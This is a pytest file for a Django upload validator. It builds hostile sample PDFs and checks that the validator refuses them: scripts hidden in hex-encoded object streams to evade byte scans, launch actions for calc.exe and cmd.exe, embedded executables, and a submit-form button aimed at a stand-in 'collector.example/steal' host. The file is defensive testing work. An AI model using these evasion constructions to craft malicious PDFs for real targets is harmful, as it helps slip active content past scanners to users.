"""core.uploads: PDFs are judged by a PDF parser (pikepdf), not only by the bytes they show.

Every file is built in the test, with pikepdf where it can write the trick, by hand where the
trick is precisely something a well-behaved writer would never produce (an object stream in an
unusual encoding)."""

import binascii
import io

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, Stream

from core.uploads import validate_upload

# These tests read the English source messages.
pytestmark = pytest.mark.usefixtures("english")


# --- building PDFs -----------------------------------------------------------------------------


def new_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].obj.Contents = Stream(pdf, b"0 0 m 100 100 l S")
    return pdf


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def compressed(pdf: pikepdf.Pdf) -> bytes:
    """Saved as modern writers do: objects packed into compressed object streams."""
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def hand_written_pdf(open_action_object: bytes, *, filters: bytes) -> bytes:
    """A PDF whose catalogue's /OpenAction (object 5) sits in an object stream (object 4)
    encoded with `filters` (ASCIIHexDecode: the hex digits of the object), with a
    cross-reference stream saying so. Nothing in the file's bytes reads /JavaScript or /Launch.
    """
    header = b"5 0 "
    body = header + open_action_object
    encoded = binascii.hexlify(body) + b">"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n"
        % (len(header), filters, len(encoded))
        + encoded
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    # Cross-reference stream: type 1 (offset) for 1-4, type 2 (in object stream 4, index 0)
    # for 5, type 0 (free) for 0 and 6 (the xref stream itself is 6: type 1).
    xref_at = len(out)
    rows = [bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    rows += [
        bytes([1]) + offsets[n].to_bytes(4, "big") + (0).to_bytes(2, "big") for n in (1, 2, 3, 4)
    ]
    rows += [bytes([2]) + (4).to_bytes(4, "big") + (0).to_bytes(2, "big")]
    rows += [bytes([1]) + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big")]
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def check(content: bytes, name: str = "proof.pdf"):
    return validate_upload(SimpleUploadedFile(name, content, content_type="application/pdf"))


def refused(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        check(content)
    return excinfo.value


def code_of(content: bytes) -> str:
    error = refused(content)
    (code,) = [e.code for e in error.error_list]
    return code


# --- accepted ------------------------------------------------------------------------------------


def test_a_plain_pdf_written_by_pikepdf_is_accepted():
    assert check(saved(new_pdf())) == "application/pdf"


def test_a_pdf_with_object_streams_a_web_link_and_a_plain_form_field_is_accepted():
    pdf = new_pdf()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 50, 50],
        A=Dictionary(S=Name.URI, URI="https://example.cn/verify"),
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="name", Rect=[60, 60, 90, 70]
        )
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([link, field]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    assert check(compressed(pdf)) == "application/pdf"


# --- refused -------------------------------------------------------------------------------------


def test_an_encrypted_pdf_that_opens_without_a_password_is_refused():
    content = saved(new_pdf(), encryption=pikepdf.Encryption(user="", owner="owner-secret"))
    error = refused(content)
    assert [e.code for e in error.error_list] == ["pdf_encrypted"]
    assert "encrypted or protected by a password" in " ".join(error.messages)


def test_a_pdf_locked_with_a_password_is_refused_as_encrypted():
    content = saved(new_pdf(), encryption=pikepdf.Encryption(user="1234", owner="owner-secret"))
    assert code_of(content) == "pdf_encrypted"


def test_an_encrypted_pdf_hiding_a_script_is_refused():
    # Encryption hides the script from any scan of the bytes; the parser decrypts it.
    pdf = new_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert('x')")
    content = saved(pdf, encryption=pikepdf.Encryption(user="", owner="o", aes=True))
    assert b"app.alert" not in content
    assert code_of(content) in ("pdf_encrypted", "pdf_active_content")


@pytest.mark.parametrize(
    "filters",
    [b"/ASCIIHexDecode", b"[/ASCIIHexDecode]"],
    ids=["hex-object-stream", "hex-object-stream-filter-array"],
)
def test_a_script_in_an_object_stream_no_byte_scan_can_read_is_refused(filters):
    content = hand_written_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", filters=filters)
    assert b"JavaScript" not in content
    error = refused(content)
    assert [e.code for e in error.error_list] == ["pdf_active_content"]
    assert "scripts, launch actions or embedded files" in " ".join(error.messages)


def test_a_launch_action_in_an_object_stream_no_byte_scan_can_read_is_refused():
    content = hand_written_pdf(b"<< /S /Launch /F (calc.exe) >>", filters=b"/ASCIIHexDecode")
    assert b"Launch" not in content
    assert code_of(content) == "pdf_active_content"


def test_a_script_in_a_compressed_object_stream_is_refused():
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    assert code_of(compressed(pdf)) == "pdf_active_content"


def test_a_launch_action_on_a_link_is_refused():
    pdf = new_pdf()
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[0, 0, 50, 50],
                A=Dictionary(S=Name.Launch, F="cmd.exe"),
            )
        ]
    )
    assert code_of(compressed(pdf)) == "pdf_active_content"


def test_a_script_run_when_a_page_opens_is_refused():
    pdf = new_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="this.print()"))
    assert code_of(compressed(pdf)) == "pdf_active_content"


def test_a_document_level_script_in_the_names_tree_is_refused():
    pdf = new_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="1"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["init", script])))
    assert code_of(compressed(pdf)) == "pdf_active_content"


def test_an_embedded_file_is_refused():
    pdf = new_pdf()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\0" * 64)
    assert code_of(compressed(pdf)) == "pdf_active_content"


def test_a_file_attachment_annotation_is_refused():
    pdf = new_pdf()
    spec = pikepdf.AttachedFileSpec(pdf, b"payload", filename="a.bat")
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=[0, 0, 20, 20],
                FS=spec.obj,
            )
        ]
    )
    assert code_of(compressed(pdf)) == "pdf_active_content"


def test_an_xfa_form_is_refused():
    pdf = new_pdf()
    xfa = Stream(pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    error = refused(compressed(pdf))
    assert [e.code for e in error.error_list] == ["pdf_form"]
    assert "a form that sends or loads data" in " ".join(error.messages)


@pytest.mark.parametrize("action", ["SubmitForm", "ImportData"])
def test_a_form_that_submits_or_imports_data_is_refused(action):
    pdf = new_pdf()
    button = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T="send",
            Rect=[0, 0, 40, 20],
            A=Dictionary(S=Name("/" + action), F="https://collector.example/steal"),
        )
    )
    pdf.pages[0].obj.Annots = Array([button])
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
    assert code_of(compressed(pdf)) == "pdf_form"


def test_a_pdf_header_wrapped_around_other_bytes_is_refused_as_not_a_pdf():
    content = b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
    error = refused(content)
    assert [e.code for e in error.error_list] == ["bad_pdf"]
    assert "not a valid PDF" in " ".join(error.messages)


def test_a_pdf_without_any_page_is_refused_as_not_a_pdf():
    assert code_of(saved(pikepdf.new())) == "bad_pdf"


def test_a_pe_executable_renamed_pdf_is_refused_by_its_content():
    # A minimal Windows PE: "MZ" header whose e_lfanew points at the "PE\0\0" signature.
    dos_header = b"MZ" + b"\x90\x00" * 29 + (0x80).to_bytes(4, "little")
    stub = dos_header.ljust(0x80, b"\0")
    pe = stub + b"PE\0\0" + b"\x4c\x01" + b"\0" * 2000 + b"%PDF-1.4 %%EOF"
    error = refused(pe)
    assert [e.code for e in error.error_list] == ["type"]
    assert "application/x-msdownload" in " ".join(error.messages)


def test_a_pdf_with_more_objects_than_the_limit_is_refused_as_unchecked():
    pdf = new_pdf()
    pdf.Root.Filler = Array([pdf.make_indirect(Dictionary(N=i)) for i in range(100_001)])
    assert code_of(compressed(pdf)) == "pdf_unchecked"


def test_the_new_refusals_read_in_chinese_by_default():
    from django.utils import translation

    encrypted = saved(new_pdf(), encryption=pikepdf.Encryption(user="", owner="o"))
    pdf = new_pdf()
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(pdf, b"<xdp/>"))
    with translation.override("zh-hans"):
        assert "已加密" in " ".join(refused(encrypted).messages)
        assert "XFA 表单" in " ".join(refused(compressed(pdf)).messages)
